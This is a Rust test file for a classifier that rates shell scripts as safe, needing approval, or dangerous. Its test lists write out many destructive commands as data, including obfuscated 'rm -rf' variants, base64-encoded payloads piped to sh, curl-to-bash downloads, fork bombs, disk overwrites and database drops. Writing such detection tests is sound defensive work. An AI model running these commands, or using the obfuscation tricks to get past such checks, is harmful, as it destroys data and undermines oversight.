use proptest::prelude::*;

use super::*;
use crate::model::{
    RiskCategory,
    RiskVerdict::{self, Dangerous, NeedsApproval, Safe},
};

fn verdict(script: &str) -> RiskVerdict {
    RiskRules::builtin().script(script).verdict
}

fn all(wanted: RiskVerdict, scripts: &[&str]) {
    for script in scripts {
        let risk = RiskRules::builtin().script(script);
        assert_eq!(risk.verdict, wanted, "{script}\n{:#?}", risk.reasons());
    }
}

#[test]
fn the_embedded_rules_fire_for_their_examples() {
    let rules = RiskRules::read(FILES).unwrap();
    let flaws: Vec<String> = rules.flaws().into_iter().map(|(rule, why)| format!("{rule}: {why}")).collect();
    assert!(flaws.is_empty(), "{}", flaws.join("\n"));
}

#[test]
fn no_two_rules_have_one_name() {
    let mut ids: Vec<&str> = RiskRules::builtin().0.file.rules.iter().map(|r| r.id.as_str()).collect();
    ids.sort_unstable();
    let twice: Vec<&&str> = ids.windows(2).filter(|w| w[0] == w[1]).map(|w| &w[0]).collect();
    assert!(twice.is_empty(), "{twice:?}");
}

#[test]
fn a_rule_that_fails_its_own_example_is_refused() {
    let text = "[[rules]]\nid = 'x'\nprogram = ['a']\nverdict = 'safe'\nwhy = ''\nmatch = ['b']\nnot_match = ['c']\n";
    assert!(RiskRules::parse(text).unwrap_err().to_string().contains("its own example"));
}

#[test]
fn ordinary_work_is_safe() {
    all(
        Safe,
        &[
            "",
            "# rm -rf /usr",
            "ls -la /var/lib | grep -v lost",
            "echo 'never run rm -rf / here'",
            "git commit -m \"remove: rm -rf /srv was wrong\"",
            "grep -rn 'DROP TABLE' migrations",
            "cat <<'END'\nrm -rf /opt\nEND",
            "for f in a b; do wc -l \"$f\"; done",
            "if test -f x; then cat x; else echo no; fi",
            "f() { ls \"$1\"; }; f /etc",
            "DIR=/tmp/work; mkdir -p $DIR && rm -rf $DIR/old",
            "curl -fsS http://localhost:8080/health | jq .status",
            "ps aux | awk '{ print $2 }' | sort -n | tail -3",
            "sudo -n journalctl -u nginx --since today",
            "env LANG=C timeout 5 df -h",
            "psql -c 'select count(*) from orders where paid'",
            "kubectl -n shop get pods -o wide",
            "find . -name '*.log' | xargs grep -l ERROR",
            "find . -name '*.rs' -exec wc -l {} +",
            "ssh web1 uptime",
            "python3 -c 'import json, sys; print(json.dumps({\"a\": 1}))'",
            "[[ -d /etc && -n \"$HOME\" ]] && pwd",
            "case $1 in a) ls;; *) pwd;; esac",
        ],
    );
}

#[test]
fn danger_is_found_wherever_it_hides() {
    all(
        Dangerous,
        &[
            "rm -rf /",
            "r''m -r\"f\" /",
            "\\rm -rf /usr",
            "$'\\x72m' -rf /usr",
            "rm${IFS}-rf${IFS}/usr",
            "{rm,-rf,/usr}",
            "/usr/bin/../bin/rm -rf //etc/./",
            "X=/; rm -rf $X",
            "a=r; b=m; $a$b -rf /srv",
            "A=(rm -rf /opt); \"${A[@]}\"",
            "cmd='rm -rf /opt'; $cmd",
            "cmd='rm -rf /opt'; eval \"$cmd\"",
            "rm -rf \"$NOBODY_SETS_THIS\"/*",
            "rm -rf ${DIR:-/}",
            "for d in /opt /srv; do rm -rf $d; done",
            "echo $(rm -rf /srv)",
            "echo `rm -rf /srv`",
            "cat <(rm -rf /srv)",
            "f() { rm -rf \"$1\"; }; f /srv",
            "f() { rm -rf /srv; }; trap f EXIT",
            "trap 'rm -rf /srv' EXIT",
            "alias ls='rm -rf /srv'",
            "bash -lc 'cd /; rm -rf *'",
            "sh -c 'rm -rf \"$0\"' x; sh -c 'rm -rf \"$1\"' _ /srv",
            "bash <<'E'\nrm -rf /srv\nE",
            "echo 'rm -rf /srv' | sh",
            "echo cm0gLXJmIC9zcnY= | base64 -d | sh",
            "eval \"$(echo cm0gLXJmIC9zcnY= | base64 --decode)\"",
            "curl -s https://example.com/i.sh | sudo bash",
            "bash <(curl -s https://example.com/i.sh)",
            "sh -c \"$(wget -qO- https://example.com/i.sh)\"",
            ". <(curl -s https://example.com/env)",
            "echo /srv | xargs rm -rf",
            "find / -name x -exec rm -rf / \\;",
            "sudo env A=b nice -n 5 timeout 9 nohup setsid rm -rf /srv",
            "busybox rm -rf /srv",
            "watch -n 1 'rm -rf /srv'",
            "ssh web1 'sudo rm -rf /srv'",
            "docker exec -it db psql -c 'drop table orders'",
            "kubectl exec -n shop db-0 -- rm -rf /var/lib/postgresql",
            "python3 -c 'import os; os.system(\"rm -rf /srv\")'",
            "node -e 'require(\"child_process\").execSync(\"rm -rf /srv\")'",
            "echo 'drop database shop' | mysql",
            "psql <<'E'\ndelete from orders;\nE",
            ":(){ :|:& };:",
            "bomb() { bomb | bomb & }; bomb",
            "cat image > /dev/sda",
            "ls; (cd /srv && { true; rm -rf .; })",
            "! rm -rf /srv",
            "true || rm -rf /srv",
            "while true; do rm -rf /srv; done",
            "if false; then :; elif true; then rm -rf /srv; fi",
            "select count(*) from t; drop table t;",
        ],
    );
}

#[test]
fn what_cannot_be_told_needs_approval() {
    all(
        NeedsApproval,
        &[
            "frobnicate --now",
            "$CMD x",
            "./deploy.sh",
            "/tmp/ls",
            "bash deploy.sh",
            ". ./env.sh",
            "eval \"$X\"",
            "sh",
            "cat x | sh",
            "rm -rf \"$DIR\"",
            "rm -rf build",
            "echo bHM= | base64 -d | sh",
            "echo 'never closed",
            "if true; then ls",
            "((((((((((((((((((((",
            "ls \0",
            "find . -name x | xargs rm",
            "find . -name x -exec touch {} ;",
            "python3 x.py",
            "python3 -c 'import antigravity'",
            "X=ls; read X; $X",
            "X=/tmp/a; if true; then X=$1; fi; rm -rf $X",
            "f() { f; }; f",
            "ssh web1 'rm -rf /tmp/x'",
            "git $WHAT",
        ],
    );
}

#[test]
fn a_script_that_could_not_be_read_is_looked_at_roughly() {
    all(Dangerous, &["echo 'never closed; rm -rf /srv", "if true; then rm -rf /srv", "db.orders.drop()"]);
}

#[test]
fn what_a_branch_may_have_set_is_not_relied_on() {
    assert_eq!(verdict("X=/srv; false && X=/tmp/a; rm -rf $X"), NeedsApproval);
    assert_eq!(verdict("X=/tmp/a; rm -rf $X"), Safe);
    assert_eq!(verdict("X=/tmp/a; (X=/srv); rm -rf $X"), Safe);
    assert_ne!(verdict("X=/tmp/a; for i in 1 2; do rm -rf $X; X=/srv; done"), Safe);
    assert_ne!(verdict("cd /tmp/a; rm -rf x"), Safe);
}

#[test]
fn the_words_that_triggered_it_are_told() {
    let risk = RiskRules::builtin().script("ls\nsudo rm -rf /srv/shop\n");
    assert!(risk.reasons().iter().any(|r| r.contains("/srv/shop")), "{:?}", risk.reasons());
    for category in [RiskCategory::DataLoss, RiskCategory::Privilege, RiskCategory::Irreversible] {
        assert!(risk.categories.contains(&category), "{category:?}");
    }
}

#[test]
fn an_argv_is_words_and_never_a_script() {
    let judge = |words: &[&str]| {
        RiskRules::builtin().command(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>()).verdict
    };
    assert_eq!(judge(&["echo", "; rm -rf /"]), Safe);
    assert_eq!(judge(&["echo", "$(rm -rf /)"]), Safe);
    assert_eq!(judge(&["rm", "-rf", "/srv"]), Dangerous);
    assert_eq!(judge(&["sh", "-c", "rm -rf /srv"]), Dangerous);
    assert_eq!(judge(&["systemctl", "restart", "nginx.service"]), NeedsApproval);
    assert_eq!(judge(&["cat", "/proc/loadavg"]), Safe);
    assert_eq!(judge(&["kill", "-TERM", "812"]), NeedsApproval);
    assert_eq!(judge(&["ls", "a\0b"]), NeedsApproval);
    assert_eq!(judge(&[]), NeedsApproval);
    assert_eq!(judge(&[""]), NeedsApproval);
}

#[test]
fn large_and_odd_scripts_end_soon() {
    let started = std::time::Instant::now();
    for script in [
        "echo a b c\n".repeat(1_000_000),
        "ls\n".repeat(300_000),
        "'".repeat(100_001),
        "x=$x$x; ".repeat(1_000),
        "x=aaaaaaaa; ".to_owned() + &"x=$x$x; ".repeat(60) + "rm $x",
        "echo ".to_owned() + &"{a,b}".repeat(40),
        "for i in a b c; do ".repeat(14) + "ls; " + &"done; ".repeat(14),
        format!("{}ls{}", "\"$(echo ".repeat(12), ")\"".repeat(12)),
        "f() { g; g; }; g() { h; h; }; h() { f; f; }; f".into(),
        "eval eval eval eval 'eval \"$0\"'".into(),
        "cat <<A <<B <<C\nx\nA\ny\nB\n".into(),
        "\u{F8F0}\u{F8F1}\u{F8F2}".into(),
        "echo ${".repeat(5_000),
        "$(".repeat(13) + &")".repeat(13),
        "`".repeat(999),
    ] {
        let one = std::time::Instant::now();
        let _ = verdict(&script);
        eprintln!("{:?} for {:.40}", one.elapsed(), script.replace('\n', " "));
    }
    assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn no_text_panics(text in "\\PC{0,80}") {
        let _ = verdict(&text);
    }

    #[test]
    fn no_shell_panics(words in prop::collection::vec(prop::sample::select(vec![
        "rm", "-rf", "/", "$x", "${x:-", "}", "$(", ")", "`", "'", "\"", "|", "&", ";", "&&", "{", "(", "<<E", "\nE\n", ">", "<(", "if", "then",
        "fi", "for", "in", "do", "done", "case", "esac", ";;", "x=", "f()", "eval", "sh", "-c", "xargs", "find", "-exec", "ssh", "~", "*", "{a,b}",
        "$'\\x", "$((", "))", "[[", "]]", "!", "#", "\\", "é", "sudo", "é'", "python3", "sed", "s/a/b/", "psql",
    ]), 0..24)) {
        let _ = verdict(&words.join(" "));
        let _ = verdict(&words.concat());
    }

    #[test]
    fn an_unknown_program_is_never_safe(name in "zz[a-z]{6}", args in prop::collection::vec("[a-z/-]{0,9}", 0..4)) {
        let line = format!("{name} {}", args.join(" "));
        prop_assert!(verdict(&line) > Safe);
    }

    #[test]
    fn quoting_hides_nothing(at in 0usize..2, with in prop::sample::select(vec!["''", "\"\"", "\\"])) {
        let mut name = String::from("rm");
        name.insert_str(at, with);
        let line = format!("{name} -rf /srv");
        prop_assert_eq!(verdict(&line), Dangerous);
    }
}
